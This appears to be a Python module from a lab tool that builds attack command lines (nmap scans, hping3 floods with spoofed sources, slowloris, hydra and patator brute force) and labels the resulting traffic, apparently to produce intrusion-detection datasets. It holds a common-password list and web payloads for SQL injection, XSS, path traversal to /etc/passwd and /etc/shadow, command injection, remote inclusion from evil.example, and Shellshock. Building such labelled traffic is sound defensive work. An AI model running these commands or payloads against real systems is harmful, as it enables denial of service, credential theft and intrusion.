"""Attack tool command lines by kind and intensity, plus what labelling needs to know.

Every attack is a real tool run from an attacker namespace. Rates are bounded so a
2-core machine keeps up (the capture must not drop packets), and each tool is also
given a deadline by the runner. ``Plan`` carries the facts the flow labeller uses:
victim address (or range), victim ports, protocol, and whether sources are spoofed.
"""

from __future__ import annotations

import random
import shlex
from dataclasses import dataclass, field
from pathlib import Path

from flowscope.lab.netns import Lab
from flowscope.lab.scenario import Attack
from flowscope.lab.services import LAB_USER, WEB_ADMIN, Secrets

# packets per second (floods), nmap --max-rate, parallel connections/tasks
_RATE = {"low": 300, "medium": 1200, "high": 3000}
_SCAN_RATE = {"low": 300, "medium": 1500, "high": 4000}
_TASKS = {"low": 2, "medium": 4, "high": 8}
_WORDS = {"low": 25, "medium": 60, "high": 120}
_CONNS = {"low": 100, "medium": 300, "high": 700}

_COMMON = [
    "123456",
    "password",
    "12345678",
    "qwerty",
    "123456789",
    "12345",
    "1234",
    "111111",
    "1234567",
    "dragon",
    "123123",
    "baseball",
    "abc123",
    "football",
    "monkey",
    "letmein",
    "696969",
    "shadow",
    "master",
    "666666",
    "qwertyuiop",
    "123321",
    "mustang",
    "1234567890",
    "michael",
    "654321",
    "superman",
    "1qaz2wsx",
    "7777777",
    "121212",
    "000000",
    "qazwsx",
    "123qwe",
    "killer",
    "trustno1",
    "jordan",
    "jennifer",
    "zxcvbnm",
    "asdfgh",
    "hunter",
    "buster",
    "soccer",
    "harley",
    "batman",
    "andrew",
    "tigger",
    "sunshine",
    "iloveyou",
    "2000",
    "charlie",
    "robert",
    "thomas",
    "hockey",
    "ranger",
    "daniel",
    "starwars",
    "klaster",
    "112233",
    "george",
    "computer",
    "michelle",
    "jessica",
    "pepper",
    "1111",
    "zxcvbn",
    "555555",
    "11111111",
    "131313",
    "freedom",
    "777777",
    "pass",
    "maggie",
    "159753",
    "aaaaaa",
    "ginger",
    "princess",
    "joshua",
    "cheese",
    "amanda",
    "summer",
    "love",
    "ashley",
    "nicole",
    "chelsea",
    "biteme",
    "matthew",
    "access",
    "yankees",
    "987654321",
    "dallas",
    "austin",
    "thunder",
    "taylor",
    "matrix",
    "minecraft",
    "admin",
    "root",
]

_WEB_PAYLOADS = (
    "/index.html?id=1'%20OR%20'1'='1",
    "/index.html?id=1%20UNION%20SELECT%20username,password%20FROM%20users--",
    "/index.html?q=<script>alert(document.cookie)</script>",
    "/index.html?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
    "/../../../../etc/passwd",
    "/index.html?file=..%2F..%2F..%2F..%2Fetc%2Fshadow",
    "/index.html?cmd=;cat%20/etc/passwd",
    "/index.html?host=127.0.0.1|id",
    "/admin/?user=admin'--",
    "/api/?id=1;DROP%20TABLE%20users",
    "/index.html?page=http://evil.example/shell.txt",
    "/wp-login.php",
    "/phpmyadmin/index.php",
    "/.git/config",
    "/.env",
    "/cgi-bin/test.cgi?x=()%20{%20:;};%20echo%20vulnerable",
)


@dataclass
class Plan:
    """One attack, ready to run: the command and the facts its labels carry."""

    argv: list[str]
    victim: str  # address, or CIDR for sweeps
    victim_ports: list[int] = field(default_factory=list)  # empty: any port
    protocol: str = "tcp"  # tcp, udp, icmp, any
    spoofed: bool = False

    @property
    def command(self) -> str:
        return shlex.join(self.argv)


def _wordlist(path: Path, n: int, secret: str, include: bool, rng: random.Random) -> Path:
    words = [w for w in _COMMON if w != secret][: max(1, n - 1)]
    if include:
        words.insert(rng.randint(len(words) // 3, len(words)), secret)
    path.write_text("\n".join(words) + "\n")
    return path


def plan_attack(
    a: Attack, lab: Lab, work: Path, secrets: Secrets, rng: random.Random, aid: str
) -> Plan:
    """Command line for one attack of the timeline (files it needs go into ``work``)."""
    v = lab.hosts[a.victim].addr if a.kind != "ping_sweep" else ""
    dur = a.duration
    rate = _RATE[a.intensity]
    scan_rate = str(_SCAN_RATE[a.intensity])
    nmap = ["nmap", "-n", "-Pn", "--max-rate", scan_rate, "--max-retries", "1", "-T4"]
    k = a.kind
    if k in (
        "syn_scan",
        "connect_scan",
        "fin_scan",
        "null_scan",
        "xmas_scan",
        "ack_scan",
        "window_scan",
    ):
        flag = {"syn_scan": "-sS", "connect_scan": "-sT", "fin_scan": "-sF", "null_scan": "-sN",
                "xmas_scan": "-sX", "ack_scan": "-sA", "window_scan": "-sW"}[k]  # fmt: skip
        ports = {"low": "1-1000", "medium": "1-2000", "high": "1-5000"}[a.intensity]
        return Plan([*nmap, flag, "-p", ports, v], v)
    if k == "udp_scan":
        top = {"low": "100", "medium": "300", "high": "1000"}[a.intensity]
        return Plan([*nmap, "-sU", "--top-ports", top, v], v, protocol="any")  # + ICMP replies
    if k == "version_scan":
        return Plan(
            [*nmap, "-sV", "--version-intensity", "3", "-p", "21,22,53,80,443,5201,7", v], v
        )
    if k == "os_scan":
        return Plan(
            ["nmap", "-n", "-O", "--max-retries", "1", "-T4", "-p", "22,80,443,1,2,3", v],
            v,
            protocol="any",
        )
    if k == "ping_sweep":
        pre = lab.subnet_prefix.rsplit(".", 1)[0]
        third = int(lab.subnet_prefix.rsplit(".", 1)[1])
        # nmap resolves on-link addresses with its own ARP before probing, so misses in
        # the lab's /24 never become IP packets and stall the sweep: sweep the servers'
        # part of the /24 plus ranges beyond it, which the lab gateway answers with
        # "unreachable" (every probe is then a real packet on the bridge).
        beyond = {"low": ["1.0/24"], "medium": ["1.0/24", "2.0/24"], "high": ["1.0/24", "2.0/23"]}
        extra = [f"{pre}.{third + int(r[0])}.{r[2:]}" for r in beyond[a.intensity]]
        targets = [f"{pre}.{third}.0/27", *extra]
        cover = f"{pre}.{third}.0/{23 if a.intensity == 'low' else 22}"
        return Plan(
            ["nmap", "-n", "-sn", "--send-ip", "--max-retries", "1", "-T4", "--max-rate",
             scan_rate, "--min-hostgroup", "256", *targets],
            cover,
            protocol="any",
        )  # fmt: skip
    if k in (
        "syn_flood",
        "syn_flood_spoofed",
        "udp_flood",
        "udp_flood_spoofed",
        "icmp_flood",
        "icmp_flood_spoofed",
    ):
        count = str(int(rate * dur * 0.95))  # ends just inside its deadline
        interval = f"u{max(1, 1_000_000 // rate)}"
        base = ["hping3", "-q", "-c", count, "-i", interval]
        spoofed = k.endswith("_spoofed")
        if spoofed:
            base.append("--rand-source")
        if k.startswith("syn"):
            return Plan([*base, "-S", "-p", "80", "-d", "0", v], v, [80], "tcp", spoofed)
        if k.startswith("udp"):
            return Plan([*base, "--udp", "-p", "53", "-d", "64", v], v, [53], "udp", spoofed)
        return Plan([*base, "--icmp", "-d", "56", v], v, [], "icmp", spoofed)
    if k in ("slowloris", "slow_body"):
        mode = "-H" if k == "slowloris" else "-B"
        conns = str(_CONNS[a.intensity])
        return Plan(
            ["slowhttptest", mode, "-c", conns, "-r", str(_CONNS[a.intensity] // 4), "-i", "5",
             "-l", str(int(dur)), "-t", "POST" if k == "slow_body" else "GET",
             "-u", f"http://{v}/api/" if k == "slow_body" else f"http://{v}/",
             "-p", "3", "-x", "24"],
            v, [80],
        )  # fmt: skip
    if k == "http_flood":
        # ab cannot pace itself; a request budget (≈ 400/1,500/4,000 per s over the
        # deadline) keeps it from saturating the 2 cores the capture shares.
        conc = {"low": "5", "medium": "20", "high": "50"}[a.intensity]
        budget = str(int(dur * {"low": 400, "medium": 1500, "high": 4000}[a.intensity]))
        return Plan(
            ["ab", "-q", "-k", "-t", str(int(dur)), "-n", budget, "-c", conc,
             f"http://{v}/index.html"],
            v, [80],
        )  # fmt: skip
    if k in ("ssh_bruteforce", "ftp_bruteforce", "ssh_bruteforce_hydra", "web_bruteforce"):
        n = _WORDS[a.intensity]
        tasks = str(_TASKS[a.intensity])
        secret = {
            "ssh": secrets.ssh_password,
            "ftp": secrets.ftp_password,
            "web": secrets.web_password,
        }
        if k == "ssh_bruteforce":
            # patator (the CIC-IDS2017 SSH tool): one TCP connection per guess.
            wl = _wordlist(work / f"{aid}-words.txt", n, secret["ssh"], a.valid_password, rng)
            return Plan(
                ["patator", "ssh_login", f"host={v}", f"user={LAB_USER}", "password=FILE0",
                 f"0={wl}", "persistent=0", f"--threads={tasks}",
                 "-x", "ignore:mesg=Authentication failed."],
                v, [22],
            )  # fmt: skip
        if k == "ssh_bruteforce_hydra":
            # hydra keeps guessing on a few connections; it stalls when sshd drops a
            # connection after MaxAuthTries (6), so each task gets at most 5 guesses.
            nt = _TASKS[a.intensity]
            wl = _wordlist(work / f"{aid}-words.txt", 5 * nt, secret["ssh"], a.valid_password, rng)
            return Plan(
                ["hydra", "-I", "-f", "-t", str(nt), "-l", LAB_USER, "-P", str(wl), f"ssh://{v}"],
                v,
                [22],
            )
        if k == "ftp_bruteforce":
            wl = _wordlist(work / f"{aid}-words.txt", n, secret["ftp"], a.valid_password, rng)
            return Plan(
                ["hydra", "-I", "-f", "-t", tasks, "-l", LAB_USER, "-P", str(wl), f"ftp://{v}"],
                v,
                [21],
            )
        wl = _wordlist(work / f"{aid}-words.txt", n, secret["web"], a.valid_password, rng)
        return Plan(
            [
                "hydra",
                "-I",
                "-f",
                "-t",
                tasks,
                "-l",
                WEB_ADMIN,
                "-P",
                str(wl),
                v,
                "http-get",
                "/admin/",
            ],
            v,
            [80],
        )
    if k == "web_injection":
        reps = {"low": 2, "medium": 5, "high": 12}[a.intensity]
        urls = [f"http://{v}{p}" for _ in range(reps) for p in _WEB_PAYLOADS]
        rng.shuffle(urls)
        f = work / f"{aid}-urls.txt"
        f.write_text("".join(f'url = "{u}"\noutput = "/dev/null"\n' for u in urls))
        per_s = {"low": "5/s", "medium": "15/s", "high": "40/s"}[a.intensity]
        return Plan(
            ["curl", "-s", "-g", "--path-as-is", "-A", "sqlmap/1.7 (lab)",
             "-H", "Connection: close", "--rate", per_s, "-w", "%{http_code}\\n",
             "--config", str(f)],
            v, [80],
        )  # fmt: skip
    raise AssertionError(k)
